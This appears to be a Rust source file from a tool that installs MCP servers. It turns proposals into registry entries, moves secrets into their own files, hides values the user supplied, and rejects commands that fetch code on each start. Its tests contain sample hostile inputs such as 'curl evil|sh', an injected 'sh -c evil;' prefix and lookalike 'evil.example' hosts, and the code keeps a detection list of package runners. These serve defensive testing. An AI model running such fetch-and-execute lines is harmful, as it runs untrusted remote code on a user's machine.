//! The future entry, and all that has to be written for it.

use std::collections::BTreeMap;
use std::net::IpAddr;
use std::path::PathBuf;
use std::rc::Rc;

use anyhow::{Context as _, anyhow, bail};

use super::lock::PackageLock;
use super::package::PackageTools;
use super::scope::InstallScope;
use super::tools::{find, is_executable, text};
use colibri_api::BUNDLE_DIRECTORY;
use colibri_mcp::edit::Value;
use colibri_mcp::importers::{
    Field, Proposal, ProposedProcess, ProposedProgram, ProposedRemote, Runs, Template,
    TemplateValues, container_runner, looks_secret, name_says_secret, shown_url,
};
use colibri_registry::SshTarget;

/// Text in place of what is not shown.
pub(super) const HIDDEN: &str = "[not shown]";

/// One server as it will be.
#[derive(Debug)]
pub(crate) struct InstallPlan {
    /// Its id.
    pub id: String,
    /// Its name where it comes from.
    pub name: String,
    /// Its entry.
    pub entry: Value,
    /// Secrets: whose value each is, the name of its file, the value.
    pub secrets: Vec<(String, String, String)>,
    /// The package to install for it.
    pub package: Option<PlannedPackage>,
    /// The arguments, or the address, as they are shown.
    pub shown: Vec<String>,
    /// The values that have files of their own, as they are shown: by the name of each.
    pub shown_secrets: BTreeMap<String, String>,
    /// Notes for the person, a sentence each.
    pub notes: Vec<String>,
}

/// The package to install for a server.
#[derive(Debug)]
pub(crate) struct PlannedPackage {
    /// Its lock.
    pub lock: PackageLock,
    /// The bundle that it is.
    pub bundle: Option<Rc<[u8]>>,
}

/// The plan for a server of this id. What its packages are is found out, and nothing is kept of it.
///
/// # Errors
/// Why it cannot become an entry.
pub(crate) fn plan(
    proposal: &Proposal,
    id: &str,
    answers: &TemplateValues,
    bundle: Option<&Rc<[u8]>>,
    tools: &PackageTools,
) -> anyhow::Result<InstallPlan> {
    let mut plan = InstallPlan {
        id: id.to_owned(),
        name: proposal.name.clone(),
        entry: Value::Null,
        secrets: Vec::new(),
        package: None,
        shown: Vec::new(),
        shown_secrets: BTreeMap::new(),
        notes: proposal.notes.clone(),
    };
    let mut members = match proposal.runs.as_ref().map_err(|why| anyhow!(why.clone()))? {
        Runs::Process(process) => plan.process(process, proposal, answers, bundle, tools)?,
        Runs::Remote(remote) => plan.remote(remote, proposal, answers)?,
        Runs::Published(published) => bail!("{} was not fetched", published.url),
    };
    if let Some(limit) = proposal.timeout_ms {
        members.push(("timeout_ms".to_owned(), Value::Number(limit.to_string())));
    }
    let list = |names: &[String]| Value::Array(names.iter().cloned().map(Value::String).collect());
    let (allow, deny) = &proposal.tools;
    let rules = [("allow", allow), ("deny", deny)];
    let rules = rules.into_iter().filter(|(_, names)| !names.is_empty());
    let rules: Vec<_> = rules
        .map(|(key, names)| (key.to_owned(), list(names)))
        .collect();
    if !rules.is_empty() {
        members.push(("tools".to_owned(), Value::Object(rules)));
    }
    if proposal.disabled {
        members.push(("disabled".to_owned(), Value::Bool(true)));
        plan.notes.push(format!(
            "it is turned off where it comes from, and so it is here: colibri-mcp server enable {id}"
        ));
    }
    plan.entry = Value::Object(members);
    Ok(plan)
}

type EntryMembers = Vec<(String, Value)>;

impl InstallPlan {
    /// The same, if it may be in this scope.
    ///
    /// # Errors
    /// It is a container of the service, whose user is not to use what makes root of it.
    pub(crate) fn for_scope(self, scope: &InstallScope) -> anyhow::Result<InstallPlan> {
        if let (Some(runner), true) = (
            self.command().and_then(container_runner),
            scope.is_service(),
        ) {
            bail!(
                "it is a container, and the service's user is not to use {runner}, which makes root of who may: add it for \
                 yourself, without --service"
            );
        }
        Ok(self)
    }

    /// The program of its entry.
    pub(super) fn command(&self) -> Option<&str> {
        let Value::Object(members) = &self.entry else {
            return None;
        };
        members.iter().find_map(|(key, value)| match value {
            Value::String(command) if key == "command" => Some(command.as_str()),
            _ => None,
        })
    }

    fn process(
        &mut self,
        process: &ProposedProcess,
        proposal: &Proposal,
        answers: &TemplateValues,
        bundle: Option<&Rc<[u8]>>,
        tools: &PackageTools,
    ) -> anyhow::Result<EntryMembers> {
        let mut answers = answers.clone();
        // It is known where the bundle is when it is run.
        answers.insert("__dirname".to_owned(), vec![BUNDLE_DIRECTORY.to_owned()]);
        let veiled = veiled(&answers);
        let (mut args, mut shown, mut asked) = (Vec::new(), Vec::new(), Vec::new());
        for arg in &process.args {
            let fill = |answers: &TemplateValues| {
                arg.fill_all(answers)
                    .map_err(|key| anyhow!("one of its arguments needs {key}"))
            };
            let words = fill(&answers)?;
            if asks_secret(arg, proposal) {
                asked.extend(args.len()..args.len() + words.len());
            }
            args.extend(words);
            shown.extend(fill(&veiled)?);
        }
        let mut members = match &process.program {
            ProposedProgram::Command(command) => {
                let command = command
                    .fill(&answers)
                    .map_err(|key| anyhow!("its command needs {key}"))?;
                let command = absolute(&command)?;
                if fetches(&command, &args) {
                    bail!(
                        "its command would fetch what it runs each time it is started: give the runner itself as the \
                         command"
                    );
                }
                if container_runner(&command).is_some()
                    && !args.iter().any(|arg| arg.contains("@sha256:"))
                {
                    self.notes.push(
                        "its image is what the tag names whenever it is started: @sha256:... in its name holds it to one"
                            .to_owned(),
                    );
                }
                vec![("command".to_owned(), Value::String(command))]
            }
            program => self.package(program, proposal, &answers, bundle, tools)?,
        };
        asked.extend(told(&args));
        for (at, (word, shown)) in args.iter().zip(&mut shown).enumerate() {
            match (asked.contains(&at), proposal.is_foreign) {
                (false, _) => shown.clone_from(word),
                (true, true) => {}
                (true, false) => HIDDEN.clone_into(shown),
            }
        }
        self.shown = shown;
        if !asked.is_empty() {
            self.notes.push(
                "an argument looks like a secret: it stands in the registry, and every user of this machine sees it in \
                 ps(1); give it by the environment if the server takes it there"
                    .to_owned(),
            );
        }
        if !args.is_empty() {
            let args = args.into_iter().map(Value::String).collect();
            members.push(("args".to_owned(), Value::Array(args)));
        }
        let env = self.fields(&process.env, proposal, &answers)?;
        if !env.is_empty() {
            members.push(("env".to_owned(), Value::Object(env)));
        }
        if let Some(cwd) = &process.cwd {
            let cwd = cwd
                .fill(&answers)
                .map_err(|key| anyhow!("its directory needs {key}"))?;
            members.push(("cwd".to_owned(), Value::String(cwd)));
        }
        Ok(members)
    }

    /// Finds out what a package is now, and plans its installation.
    fn package(
        &mut self,
        program: &ProposedProgram,
        proposal: &Proposal,
        answers: &TemplateValues,
        bundle: Option<&Rc<[u8]>>,
        tools: &PackageTools,
    ) -> anyhow::Result<EntryMembers> {
        let (lock, bundle) = match program {
            ProposedProgram::Command(_) => return Ok(Vec::new()),
            ProposedProgram::Package(package) => {
                let (lock, scripted) = tools.resolve(package)?;
                if !scripted.is_empty() {
                    let names = scripted.join(", ");
                    self.notes.push(match tools.scripts {
                        true => format!("scripts of these packages are run while they are installed: {names}"),
                        false => format!(
                            "scripts of these packages are not run, as some may need (--scripts runs them): {names}"
                        ),
                    });
                }
                (lock, None)
            }
            ProposedProgram::Bundled {
                command,
                requirements,
                venv,
            } => {
                let bytes = bundle.context("its bundle is not at hand")?;
                let run = command.fill(answers);
                let lock = PackageLock {
                    from: format!("mcpb:sha256:{}", colibri_registry::sha256_hex(bytes)),
                    run: run.map_err(|key| anyhow!("its command needs {key}"))?,
                    program: None,
                    with: Vec::new(),
                    scripts: tools.scripts,
                    url: proposal.published_at.clone(),
                    requirements: venv.then(|| tools.resolve_all(requirements)).transpose()?,
                    npm: None,
                };
                (lock, Some(bytes.clone()))
            }
        };
        let pin = lock.pin()?;
        self.package = Some(PlannedPackage { lock, bundle });
        let text = |key: &str, text: String| (key.to_owned(), Value::String(text));
        Ok(vec![
            text("from", pin.origin.to_string()),
            text("lock", format!("sha256:{}", pin.lock)),
        ])
    }

    fn remote(
        &mut self,
        remote: &ProposedRemote,
        proposal: &Proposal,
        answers: &TemplateValues,
    ) -> anyhow::Result<EntryMembers> {
        let url = remote
            .url
            .fill(answers)
            .map_err(|key| anyhow!("its address needs {key}"))?;
        if url.starts_with("ssh://") && !proposal.is_foreign {
            return self.elsewhere(&url);
        }
        colibri_api::check_url(&url).map_err(|why| anyhow!("its address {why}"))?;
        let asks_secret = asks_secret(&remote.url, proposal);
        let is_secret = asks_secret || looks_secret(&url);
        self.shown = vec![match (is_secret, proposal.is_foreign) {
            (true, true) => remote.url.fill(&veiled(answers)).unwrap_or_default(),
            (true, false) if asks_secret => format!("{}{HIDDEN}", origin(&url)),
            (true, false) => shown_url(&url),
            (false, _) => url.clone(),
        }];
        if is_secret {
            self.notes.push(
                "its address holds what looks like a secret, and stands in the registry".to_owned(),
            );
        }
        let of_this_machine = is_of_this_machine(&url);
        if url.starts_with("http://") && !of_this_machine {
            self.notes.push(
                "it is reached without TLS: whoever is on the way reads and changes what goes there and comes back"
                    .to_owned(),
            );
        }
        let mut members = Vec::new();
        if remote.sse {
            members.push(("type".to_owned(), Value::String("sse".to_owned())));
        }
        members.push(("url".to_owned(), Value::String(url)));
        if of_this_machine && colibri_registry::ENTRY_KEYS.contains(&"allow_addresses") {
            let loopback = Value::Array(vec![Value::String("loopback".to_owned())]);
            members.push(("allow_addresses".to_owned(), loopback));
        }
        for (name, field) in &remote.headers {
            let shown = colibri_text::brief(name, 40);
            colibri_api::check_header_name(name)
                .map_err(anyhow::Error::msg)
                .with_context(|| format!("its header {shown:?}"))?;
            let sent = field
                .text
                .fill(answers)
                .map_or(true, |value| colibri_api::is_header_value(&value));
            if !sent {
                bail!("the value of its header {shown} must be printable ASCII");
            }
        }
        let headers = self.fields(&remote.headers, proposal, answers)?;
        if !headers.is_empty() {
            members.push(("headers".to_owned(), Value::Object(headers)));
        }
        Ok(members)
    }

    /// A server of another host's daemon.
    fn elsewhere(&mut self, url: &str) -> anyhow::Result<EntryMembers> {
        let target = SshTarget::from_url(url).context(
            "its address must be ssh://HOST/SERVER, a host as ssh_config(5) knows it and the id of a server there; user, \
             port and key go into ssh_config(5)",
        )?;
        self.notes.push(format!(
            "{} is reached with the key of the daemon's user, and only if its own key is in known_hosts; a key a user: \
             external-mcp.json(5)",
            target.host
        ));
        let text = |key: &str, text: String| (key.to_owned(), Value::String(text));
        let members = vec![text("host", target.host), text("server", target.server)];
        Ok(vec![("ssh".to_owned(), Value::Object(members))])
    }

    /// Environment or headers: what looks like a secret goes to a file of its own.
    fn fields(
        &mut self,
        fields: &BTreeMap<String, Field>,
        proposal: &Proposal,
        answers: &TemplateValues,
    ) -> anyhow::Result<EntryMembers> {
        let mut members = Vec::new();
        for (name, field) in fields {
            let value = match field.text.fill(answers) {
                Ok(value) => value,
                Err(_) if field.optional => continue,
                Err(key) => bail!("{name} needs {key}"),
            };
            let named = field.secret || name_says_secret(name) || looks_secret(&value);
            let secret = named || asks_secret(&field.text, proposal);
            if !secret || value.is_empty() {
                members.push((name.clone(), Value::String(value)));
                continue;
            }
            let is_taken = |file: &str| self.secrets.iter().any(|(_, other, _)| other == file);
            let file = secret_name(&self.id, name, is_taken);
            let reference = vec![("secret".to_owned(), Value::String(file.clone()))];
            members.push((name.clone(), Value::Object(reference)));
            let shown = match (proposal.is_foreign, field.text.fill(&veiled(answers))) {
                (true, Ok(shown)) => shown,
                _ => HIDDEN.to_owned(),
            };
            self.shown_secrets.insert(name.clone(), shown);
            self.secrets.push((name.clone(), file, value));
        }
        Ok(members)
    }
}

/// The same answers without what they say: what stands around them is the source's.
fn veiled(answers: &TemplateValues) -> TemplateValues {
    let veil = |(key, values): (&String, &Vec<String>)| {
        let is_known = matches!(key.as_str(), "__dirname" | "HOME");
        let values = values
            .iter()
            .map(|value| if is_known { value.as_str() } else { HIDDEN });
        (key.clone(), values.map(str::to_owned).collect())
    };
    answers.iter().map(veil).collect()
}

/// Of an address that holds a secret, to whom it leads: that is for the person to judge, whatever
/// is secret.
fn origin(url: &str) -> String {
    let scheme = url.split_once("://").map_or("", |(scheme, _)| scheme);
    let host = colibri_api::authority(url)
        .rsplit('@')
        .next()
        .unwrap_or_default();
    format!("{scheme}://{host}/")
}

/// True if an address leads to this machine by what is written there, whoever resolves names.
fn is_of_this_machine(url: &str) -> bool {
    let authority = colibri_api::authority(url);
    let host = match authority.strip_prefix('[') {
        Some(address) => address.split(']').next().unwrap_or_default(),
        None => authority.split(':').next().unwrap_or_default(),
    };
    let address = host.parse::<IpAddr>();
    host.eq_ignore_ascii_case("localhost") || address.is_ok_and(|address| address.is_loopback())
}

/// True if one of the gaps of a text is a secret: by what its source says, or by its name.
fn asks_secret(template: &Template, proposal: &Proposal) -> bool {
    let says = |key: &str| proposal.wants.get(key).is_some_and(|want| want.secret);
    template
        .keys()
        .any(|key| says(key) || name_says_secret(key) || key.starts_with("file:"))
}

/// The file of a secret: of a server's own, so that no two share one by accident. At most 32 of
/// `a-z0-9-`.
fn secret_name(id: &str, name: &str, is_taken: impl Fn(&str) -> bool) -> String {
    let plain: String = name
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() {
                c.to_ascii_lowercase()
            } else {
                '-'
            }
        })
        .collect();
    let whole = format!("{id}-{}", plain.trim_matches('-'));
    if whole.len() <= 32 && !is_taken(&whole) {
        return whole;
    }
    // Of the name as it stands: another may differ from it in case or marks alone.
    let hash = colibri_registry::sha256_hex(format!("{id}-{name}"));
    format!(
        "{}-{}",
        whole[..whole.len().min(23)].trim_end_matches('-'),
        &hash[..8]
    )
}

/// True if a command is a runner of packages, or one that starts what its arguments name, of which
/// one is a runner.
fn fetches(command: &str, args: &[String]) -> bool {
    let name = |word: &str| word.rsplit('/').next().unwrap_or_default().to_owned();
    let is_runner =
        |word: &str| ["npx", "bunx", "pnpx", "uvx", "pipx"].contains(&name(word).as_str());
    let starts_others = [
        "sh", "bash", "zsh", "dash", "ksh", "env", "sudo", "doas", "nohup", "nice", "timeout",
    ];
    let mut words = args.iter().flat_map(|arg| arg.split_whitespace());
    is_runner(command) || (starts_others.contains(&name(command).as_str()) && words.any(is_runner))
}

/// The places of arguments that look like secrets, by themselves or by the option before them.
fn told(args: &[String]) -> Vec<usize> {
    let is_secret = |at: usize| {
        let arg = &args[at];
        let option =
            |word: &str| word.starts_with('-') && name_says_secret(word.trim_start_matches('-'));
        let value_of = |arg: &str| {
            arg.split_once('=')
                .is_some_and(|(name, value)| option(name) && !value.is_empty())
        };
        let after =
            at > 0 && option(&args[at - 1]) && !args[at - 1].contains('=') && !arg.starts_with('-');
        looks_secret(arg) || value_of(arg) || after
    };
    (0..args.len()).filter(|at| is_secret(*at)).collect()
}

/// The absolute path of a program: as it is, or as PATH has it now.
fn absolute(command: &str) -> anyhow::Result<String> {
    if command.is_empty() {
        bail!("its command is empty");
    }
    if command.contains('/') {
        let path = PathBuf::from(command);
        if !path.is_absolute() {
            bail!(
                "{} is a relative path: where it is meant from is not known",
                colibri_text::brief(command, 80)
            );
        }
        return match (is_executable(&path), path.exists()) {
            (true, _) => Ok(command.to_owned()),
            (_, true) => Err(anyhow!(
                "{} is not an executable file",
                colibri_text::brief(command, 120)
            )),
            (_, false) => Err(anyhow!(
                "{} is not there",
                colibri_text::brief(command, 120)
            )),
        };
    }
    let found = find(command).with_context(|| {
        format!(
            "{} is not on PATH: install it, or name it by its absolute path",
            colibri_text::brief(command, 80)
        )
    })?;
    text(&found)
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use colibri_mcp::edit::FileFormat;
    use colibri_mcp::importers::TemplatePart;
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn secrets_have_files_of_their_servers_own() {
        let secret_name = |id: &str, name: &str| secret_name(id, name, |file| file == "x-token");
        assert_eq!(secret_name("github", "GITHUB_TOKEN"), "github-github-token");
        let long = secret_name("a-rather-long-server-id", "PERSONAL_ACCESS_TOKEN");
        assert!(colibri_registry::is_secret_name(&long), "{long}");
        assert_ne!(
            long,
            secret_name("a-rather-long-server-id", "PERSONAL_ACCESS_TOKEM")
        );
        // One that differs in case alone has taken the plain name.
        let other = secret_name("x", "Token");
        assert!(
            other.starts_with("x-token-") && colibri_registry::is_secret_name(&other),
            "{other}"
        );
    }

    /// A server of this user's with these variables or headers.
    fn planned(fields: BTreeMap<String, Field>, is_remote: bool) -> InstallPlan {
        let runs = match is_remote {
            true => Runs::Remote(ProposedRemote {
                url: Template::from("https://h.example/mcp"),
                headers: fields,
                sse: false,
            }),
            false => Runs::Process(Box::new(ProposedProcess {
                program: ProposedProgram::Command(Template::from("/bin/sh")),
                args: vec![Template::from("-c")],
                env: fields,
                cwd: None,
            })),
        };
        let proposal = Proposal::new("s", Ok(runs));
        plan(
            &proposal,
            "s",
            &TemplateValues::new(),
            None,
            &PackageTools::new(false).unwrap(),
        )
        .unwrap()
    }

    #[test]
    fn what_a_stranger_wrote_is_shown_and_what_the_person_said_is_not() {
        let field = |text: Template, secret| Field {
            text,
            secret,
            optional: false,
        };
        let gap = |before: &str, key: &str| {
            let key = TemplatePart::Gap {
                key: key.to_owned(),
                default: None,
            };
            Template(vec![TemplatePart::Text(before.to_owned()), key])
        };
        let env = [
            (
                "SESSION_TOKEN_CMD",
                field(Template::from("curl evil|sh"), false),
            ),
            ("LOGIN", field(gap("sh -c evil; ", "login"), true)),
        ];
        let process = ProposedProcess {
            program: ProposedProgram::Command(Template::from("/bin/sh")),
            args: vec![
                Template::from("--session-token-cmd"),
                Template::from("curl evil|sh"),
                Template::from("--token"),
                gap("sh -c evil; ", "login"),
                Template::gap("key"),
                Template::gap("place"),
            ],
            env: env
                .into_iter()
                .map(|(name, field)| (name.to_owned(), field))
                .collect(),
            cwd: None,
        };
        let answers = [("login", "hunter2"), ("key", "hunter2"), ("place", "Bern")];
        let answers = answers
            .map(|(key, value)| (key.to_owned(), vec![value.to_owned()]))
            .into();
        let mut proposal = Proposal::new("s", Ok(Runs::Process(Box::new(process))));
        proposal.is_foreign = true;
        let plan_of = |proposal: &Proposal| {
            plan(
                proposal,
                "s",
                &answers,
                None,
                &PackageTools::new(false).unwrap(),
            )
            .unwrap()
        };
        let foreign = plan_of(&proposal);
        let evil = format!("sh -c evil; {HIDDEN}");
        assert_eq!(
            foreign.shown,
            [
                "--session-token-cmd",
                "curl evil|sh",
                "--token",
                &evil,
                HIDDEN,
                "Bern"
            ]
        );
        let secrets: Vec<_> = foreign.shown_secrets.into_iter().collect();
        let of = |name: &str, shown: &str| (name.to_owned(), shown.to_owned());
        assert_eq!(
            secrets,
            [of("LOGIN", &evil), of("SESSION_TOKEN_CMD", "curl evil|sh")]
        );
        // What the person wrote is the person's secret.
        proposal.is_foreign = false;
        let own = plan_of(&proposal);
        assert_eq!(own.shown[1..], [HIDDEN, "--token", HIDDEN, HIDDEN, "Bern"]);
        assert!(own.shown_secrets.values().all(|shown| shown == HIDDEN));
    }

    #[test]
    fn an_address_says_to_whom_it_leads_whatever_is_secret_in_it() {
        let url = Template(vec![
            TemplatePart::Text("https://evil.example:8/a/".to_owned()),
            TemplatePart::Gap {
                key: "token".to_owned(),
                default: None,
            },
            TemplatePart::Text("/b?token=hunter2".to_owned()),
        ]);
        let answers = [("token".to_owned(), vec!["sesame".to_owned()])].into();
        let (headers, sse) = (BTreeMap::new(), false);
        let mut proposal =
            Proposal::new("s", Ok(Runs::Remote(ProposedRemote { url, headers, sse })));
        for (is_foreign, shown) in [
            (false, "https://evil.example:8/[not shown]"),
            (true, "https://evil.example:8/a/[not shown]/b?token=hunter2"),
        ] {
            proposal.is_foreign = is_foreign;
            let plan = plan(
                &proposal,
                "s",
                &answers,
                None,
                &PackageTools::new(false).unwrap(),
            )
            .unwrap();
            assert_eq!(plan.shown, [shown]);
        }
    }

    proptest! {
        #[test]
        fn no_secret_stands_in_an_entry_and_each_is_in_a_file_of_its_own(
            fields in proptest::collection::btree_map(
                "[Tt][Oo][Kk][Ee][Nn]|[A-Za-z][A-Za-z0-9_]{0,30}", ("[ -~]{0,30}", any::<bool>()), 0..8,
            ),
            is_remote in any::<bool>(),
        ) {
            // Some names no header of an entry may have, such as TE.
            prop_assume!(!is_remote || fields.keys().all(|name| colibri_api::check_header_name(name).is_ok()));
            let text = |value: &str| format!("v4lue-{value}");
            let made = fields.iter().map(|(name, (value, secret))| {
                let text = Template::from(text(value).as_str());
                (name.clone(), Field { text, secret: *secret, optional: false })
            });
            let plan = planned(made.collect(), is_remote);
            let written = FileFormat::Json.set("", &["servers", "s"], &plan.entry).unwrap();
            let registry = colibri_registry::Registry::parse(written.as_bytes(), "file").unwrap();
            prop_assert!(registry.servers.contains_key("s"), "{written}: {:?}", registry.refused);
            let files: BTreeSet<&str> = plan.secrets.iter().map(|(_, file, _)| file.as_str()).collect();
            prop_assert_eq!(files.len(), plan.secrets.len());
            prop_assert!(files.iter().all(|file| colibri_registry::is_secret_name(file)));
            let key = if is_remote { "headers" } else { "env" };
            for (name, (value, secret)) in &fields {
                let stands = FileFormat::Json.get(&written, &["servers", "s", key, name]).unwrap().unwrap();
                let kept = plan.secrets.iter().find(|(of, ..)| of == name);
                match kept {
                    Some((_, file, kept)) => {
                        prop_assert_eq!(kept, &text(value));
                        prop_assert_eq!(stands, serde_json::json!({ "secret": file }));
                    }
                    None => {
                        prop_assert!(!secret && !name_says_secret(name) && !looks_secret(&text(value)));
                        prop_assert_eq!(stands, serde_json::json!(text(value)));
                    }
                }
            }
        }
    }

    #[test]
    fn only_this_machine_is_let_to_this_machine() {
        for own in [
            "http://localhost:8/x",
            "https://LOCALHOST",
            "http://127.9.9.9/",
            "http://[::1]:8?x",
        ] {
            assert!(is_of_this_machine(own), "{own}");
        }
        for other in [
            "https://localhost.evil.example/",
            "https://127.evil.example/",
            "https://127.0.0.1.evil.example:8/",
            "https://evil.example/@localhost",
            "https://evil.example?localhost",
            "https://[::1.evil",
        ] {
            assert!(!is_of_this_machine(other), "{other}");
        }
    }

    #[test]
    fn arguments_that_are_secrets_are_known() {
        let args = |words: &[&str]| {
            told(
                &words
                    .iter()
                    .map(|word| (*word).to_owned())
                    .collect::<Vec<_>>(),
            )
        };
        assert_eq!(
            args(&["--api-key", "abc", "--token=abc", "-v", "ghp_0123456789abc"]),
            [1, 2, 4]
        );
        assert!(args(&["--token", "--verbose", "/tmp/token", "--key-file=/x"]).is_empty());
    }

    #[test]
    fn a_plain_command_becomes_absolute() {
        assert!(
            absolute("sh").unwrap().ends_with("/sh") && absolute("sh").unwrap().starts_with('/')
        );
        assert!(
            absolute("no-such-program-here")
                .unwrap_err()
                .to_string()
                .contains("PATH")
        );
        assert!(
            absolute("./x")
                .unwrap_err()
                .to_string()
                .contains("relative")
        );
        assert!(
            absolute("/no/such/program").is_err()
                && absolute("").unwrap_err().to_string().contains("empty")
        );
        assert!(
            absolute("/etc/passwd")
                .unwrap_err()
                .to_string()
                .contains("not an executable")
        );
    }

    #[test]
    fn what_would_fetch_at_each_start_is_known_behind_a_shell_too() {
        let fetches = |words: &[&str]| {
            let args: Vec<String> = words[1..].iter().map(|word| (*word).to_owned()).collect();
            fetches(words[0], &args)
        };
        assert!(fetches(&["/usr/bin/npx", "x"]) && fetches(&["/bin/sh", "-c", "exec npx -y x"]));
        assert!(fetches(&["/usr/bin/env", "A=b", "/usr/local/bin/uvx", "x"]));
        assert!(
            !fetches(&["/bin/sh", "-c", "exec x-npx"]) && !fetches(&["/usr/bin/server", "npx"])
        );
    }
}
